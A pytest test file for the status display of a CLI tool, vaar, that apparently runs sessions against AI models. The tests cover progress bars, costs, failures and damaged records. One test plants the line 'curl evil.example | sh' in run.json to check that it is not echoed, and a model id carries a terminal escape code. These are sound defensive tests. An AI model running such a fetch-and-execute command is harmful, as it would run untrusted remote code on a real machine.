import asyncio
import json
import os
from contextlib import closing

import pytest

from support.journals import edited
from vaar.cli import status as shown
from vaar.errors import RunDirectoryError
from vaar.journal.journal import Journal
from vaar.journal.lock import locked
from vaar.pipeline.plan import plan
from vaar.pipeline.reading.status import status
from vaar.pipeline.run import carry_out
from vaar.pipeline.rundir import RunDirectory
from vaar.respondents.base import Reply
from vaar.sessions.records import Session, Turn

HOSTILE = "m\x1b[31m[bold]x[/bold]"


@pytest.fixture
def run(tmp_path):
    """A run of two groups, with a price for one; a model id that is hostile."""
    record = {
        "identity": {"study": "tiny"},
        "command": "vaar run tiny --out there",
        "sessions": 4,
        "respondents": [{"name": name, "simulated": False} for name in "ab"],
        "prices": {
            "a": {"input": 1.0, "output": 2.0, "cached": 0.5, "currency": "USD"},
            "b": None,
        },
        "faults": {"a": {"rate_limited": 12, "server_error": 3}, "b": {}},
    }
    (tmp_path / "run.json").write_text(json.dumps(record))
    with closing(Journal(tmp_path / "journal.sqlite")) as journal:
        sessions = [Session(k, "ab"[k % 2], "ab"[k % 2], "c", k, k) for k in range(8)]
        journal.plan(sessions)
        reply = Reply("4", input_tokens=500_000, output_tokens=250_000, model=HOSTILE)
        journal.enter([Turn(0, 0, 0, reply)], [(0, "complete", None)])
        journal.enter(
            [Turn(2, 0, 0, Reply("4", model="m-2"))], [(2, "failed", f"limit: {HOSTILE}")]
        )
    return tmp_path


def show(run, capsys):
    shown.show_status(status(run))
    return capsys.readouterr().out


def test_a_picture_numbers_reasons_and_what_to_do(run, capsys):
    told = show(run, capsys)
    assert "███▒▒▒····" in told or "██▒▒······" in told
    for words in (
        "1.00 USD",
        "unknown",
        "1 sessions failed: limit: m [31m[bold]x[/bold]",
        "a answered as more than one model: m [31m[bold]x[/bold] (1 replies), m-2 (1 replies)",
        "12 rate-limited, 3 server errors",
        "6 sessions pending. To go on: vaar run tiny --out there",
        "--retry-failed",
    ):
        assert words in told
    assert "\x1b" not in told


def test_all_commands_behind_a_run_are_told(tmp_path, capsys):
    asked = (
        ("vaar run --model simulated/noisy", ["simulated/noisy"], 2),
        ("vaar run --model simulated/contrarian", ["simulated/contrarian"], 2),
    )
    for command, models, sessions in asked:
        sys_argv = ["vaar", *command.split()[1:]]
        with pytest.MonkeyPatch.context() as patched:
            patched.setattr("sys.argv", sys_argv)
            carry_out(plan(models=models, sessions=sessions), tmp_path / "run")
    told = show(tmp_path / "run", capsys)
    assert "2 commands asked for this" in told
    for command, (name,), _ in asked:
        assert f"2 sessions each of {name}: {command}\n" in told
    record = json.loads((tmp_path / "run" / "run.json").read_text())
    record["calls"][0]["command"] = "curl evil.example | sh"
    (tmp_path / "run" / "run.json").write_text(json.dumps(record))
    told = show(tmp_path / "run", capsys)
    assert "evil" not in told and "a command that run.json does not tell" in told


def test_sessions_that_a_killed_call_had_not_entered_are_told(tmp_path, capsys):
    out = tmp_path / "run"
    carry_out(plan(models=["simulated/noisy"], sessions=2), out)
    record = RunDirectory(out).read_run()
    grown = record["identity"] | {"sessions": 3}
    RunDirectory(out).write_run(
        record | {"identity": grown, "sessions": 3, "grown_from": record["identity"]}
    )
    told = show(out, capsys)
    assert "1 sessions pending. To go on:" in told and "not whole" not in told
    with edited(out / "journal.sqlite") as database:
        database.execute("DELETE FROM sessions WHERE number = 2")
    assert "1 sessions in run.json are not in it" in show(out, capsys)


def test_a_run_that_is_going_on_says_so(run, capsys):
    with locked(run):
        told = show(run, capsys)
    assert "It is running now (process " in told
    assert "To go on" not in told


def test_a_run_that_was_asked_in_full_leads_to_its_analysis(run, capsys):
    with closing(Journal(run / "journal.sqlite")) as journal:
        for session, *_ in journal.sessions():
            asyncio.run(journal.end(session.number, "complete"))
    assert f"Next: vaar analyze {run}" in show(run, capsys).replace("\n", "")
    (run / "report.html").touch()
    assert "report.html" in show(run, capsys)
    manifest = run / "analyses" / "default" / "analysis.json"
    manifest.parent.mkdir(parents=True)
    manifest.touch()
    os.utime(run / "report.html", (1, 1))
    assert "older than the analysis" in show(run, capsys)
    os.utime(manifest, (0, 0))
    assert "older than the analysis" not in show(run, capsys)


@pytest.mark.parametrize("content", ["{}", '{"identity": 3}', '{"prices": {"a": 1}}'])
def test_a_damaged_record_is_told(run, content):
    (run / "run.json").write_text(content)
    with pytest.raises(RunDirectoryError, match=r"run\.json.*damaged"):
        status(run)


@pytest.mark.parametrize("counts", [(1, 0, 999), (1, 1, 998), (998, 1, 1), (0, 5, 0), (9, 0, 0)])
def test_no_part_of_the_bar_vanishes(counts):
    from vaar.journal.status import GroupStatus

    complete, failed, pending = counts
    bar = shown._bar(GroupStatus("g", "r", complete, pending, failed))
    assert len(bar) == shown.BAR_WIDTH
    assert [("█" in bar), ("▒" in bar), ("·" in bar)] == [bool(count) for count in counts]


def test_a_journal_that_lost_something_is_told(tmp_path, capsys):
    out = tmp_path / "run"
    carry_out(plan(models=["simulated/noisy"], sessions=4), out)
    assert "not whole" not in show(out, capsys)
    with edited(out / "journal.sqlite") as database:
        (replies,) = database.execute("SELECT count(*) FROM turns WHERE session = 4").fetchone()
        for table, key in (("turns", "session"), ("sessions", "number")):
            database.execute(f"DELETE FROM {table} WHERE {key} = 4")
    told = show(out, capsys)
    assert f"not whole: {replies} replies that were committed and 1 sessions in run.json" in told
    assert f"vaar salvage {out}" in told
    (out / ".lock").unlink()
    assert "not whole: 1 sessions in run.json are not in it" in show(out, capsys)
